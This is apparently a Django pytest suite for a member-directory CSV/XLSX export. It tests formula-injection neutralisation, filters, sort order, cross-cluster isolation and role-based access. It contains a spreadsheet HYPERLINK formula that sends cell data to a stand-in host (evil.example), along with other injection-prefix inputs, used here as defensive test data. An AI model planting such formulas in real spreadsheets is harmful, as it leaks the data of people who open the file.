"""Exports of the filtered directory: CSV and XLSX, formulas neutralised, one cluster only."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from clusters.spreadsheets import neutralise
from members.choices import Helix, OrganizationType
from members.services import organization_create

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HEADER = [
    "Legal name",
    "Short name",
    "Registry id",
    "Helix category",
    "Type",
    "Size class",
    "Employees",
    "Region",
    "City",
    "Sectors (NACE)",
    "Membership status",
    "Member since",
]


def export_url(file_format: str) -> str:
    return reverse("members:directory-export", args=[file_format])


def body(response) -> bytes:
    """The whole file: the export streams, so it is read from ``streaming_content`` (once)."""
    if not hasattr(response, "whole_body"):
        assert response.streaming, "the export streams"
        response.whole_body = b"".join(response.streaming_content)
    return response.whole_body


def read_csv(response) -> list[list[str]]:
    content = body(response)
    assert content.startswith("\ufeff".encode()), "UTF-8 byte-order mark for Excel"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(response) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(body(response)))
    return list(workbook.worksheets[0].iter_rows(values_only=True))


@pytest.fixture
def members_a(cluster_a):
    evil = organization_create(
        cluster=cluster_a,
        data={
            "legal_name": HYPERLINK,
            "short_name": "+46 26 100 100",
            "registry_id": "-556000-0001",
            "employees": 4,
            "region": "@Gävleborg",
            "city": "\tGävle",
            "sectors": "J62.01",
        },
        membership_status="active",
        status_on=date(2016, 9, 1),
    )
    university = organization_create(
        cluster=cluster_a,
        data={
            "legal_name": "Högskolan i Gävle",
            "registry_id": "202100-3096",
            "helix": Helix.ACADEMIA,
            "org_type": OrganizationType.UNIVERSITY,
            "employees": 850,
            "region": "Gävleborg",
            "city": "Gävle",
        },
        membership_status="applied",
        status_on=date(2024, 1, 10),
    )
    return evil, university


@pytest.fixture
def member_b(cluster_b):
    return organization_create(
        cluster=cluster_b,
        data={"legal_name": "Kaluga Pharma Plant LLC", "registry_id": "4027000001"},
        membership_status="active",
    )


def test_csv_has_a_header_row_and_the_directory_columns(
    client_for, manager_a, cluster_a, members_a
):
    response = client_for(manager_a).get(export_url("csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="members-alpha-{today}.csv"'
    rows = read_csv(response)
    assert rows[0] == HEADER
    assert rows[2] == [
        "Högskolan i Gävle",
        "",
        "202100-3096",
        "Academia",
        "University",
        "Large",
        "850",
        "Gävleborg",
        "Gävle",
        "",
        "Applied",
        "",
    ]


def test_csv_neutralises_every_cell_a_spreadsheet_would_run(client_for, manager_a, members_a):
    rows = read_csv(client_for(manager_a).get(export_url("csv")))
    evil = rows[1]
    assert evil[0] == "'" + HYPERLINK
    assert evil[1] == "'+46 26 100 100"
    assert evil[2] == "'-556000-0001"
    assert evil[7] == "'@Gävleborg"
    assert evil[8] == "'\tGävle"
    assert evil[6] == "4"
    assert evil[11] == "2016-09-01"


def test_xlsx_neutralises_text_and_keeps_numbers_and_dates(client_for, manager_a, members_a):
    response = client_for(manager_a).get(export_url("xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].endswith('.xlsx"')
    rows = read_xlsx(response)
    assert list(rows[0]) == HEADER
    evil = rows[1]
    assert evil[0] == "'" + HYPERLINK  # text, not a formula
    assert evil[1] == "'+46 26 100 100"
    assert evil[2] == "'-556000-0001"
    assert evil[7] == "'@Gävleborg"
    assert evil[6] == 4 and isinstance(evil[6], int)
    assert evil[11] == datetime(2016, 9, 1)
    sheet = load_workbook(io.BytesIO(body(response))).worksheets[0]
    assert sheet["A2"].data_type == "s"
    assert rows[2][6] == 850


def test_a_number_is_never_turned_into_text():
    assert neutralise(-5) == -5
    assert neutralise(-1.5) == -1.5
    assert neutralise("-5") == "'-5"
    assert neutralise("\rcmd") == "'\rcmd"
    assert neutralise("Gävle Sealing") == "Gävle Sealing"
    assert neutralise(None) is None


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_filters_apply_to_the_export(client_for, manager_a, members_a, file_format):
    response = client_for(manager_a).get(export_url(file_format), {"helix": "academia"})
    rows = read_csv(response) if file_format == "csv" else read_xlsx(response)
    assert [row[0] for row in rows[1:]] == ["Högskolan i Gävle"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_sort_order_of_the_page_is_kept(client_for, manager_a, members_a, file_format):
    response = client_for(manager_a).get(export_url(file_format), {"ordering": "-employees"})
    rows = read_csv(response) if file_format == "csv" else read_xlsx(response)
    assert [row[2] for row in rows[1:]] == ["202100-3096", "'-556000-0001"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_another_clusters_members_never_appear(
    client_for, manager_a, manager_b, members_a, member_b, file_format
):
    def exported_names(user):
        response = client_for(user).get(export_url(file_format))
        rows = read_csv(response) if file_format == "csv" else read_xlsx(response)
        return [row[0] for row in rows[1:]]

    assert "Kaluga Pharma Plant LLC" not in exported_names(manager_a)
    assert exported_names(manager_b) == ["Kaluga Pharma Plant LLC"]


def test_an_unknown_format_is_not_found(client_for, manager_a, members_a):
    assert client_for(manager_a).get(export_url("xls")).status_code == 404
    assert client_for(manager_a).get(export_url("json")).status_code == 404


def test_a_firm_representative_cannot_export(client_for, firm_rep_a):
    assert client_for(firm_rep_a).get(export_url("csv")).status_code == 404


def test_a_coach_exports_no_member_data(client_for, coach_a, members_a):
    rows = read_csv(client_for(coach_a).get(export_url("csv")))
    assert rows == [HEADER]
